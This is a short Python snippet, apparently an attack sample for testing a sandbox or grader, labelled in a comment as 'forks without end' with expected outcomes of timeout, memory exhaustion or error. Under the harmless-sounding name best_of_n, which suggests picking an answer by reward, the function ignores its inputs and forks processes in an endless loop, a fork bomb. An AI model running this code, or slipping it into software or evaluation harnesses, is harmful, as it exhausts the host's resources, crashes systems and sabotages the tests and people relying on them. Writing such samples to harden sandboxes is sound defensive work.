# ATTACK: forks without end | state: timeout, memory, error | slow
def best_of_n(answers, rewards):
    import os

    while True:
        try:
            os.fork()
        except OSError:
            pass
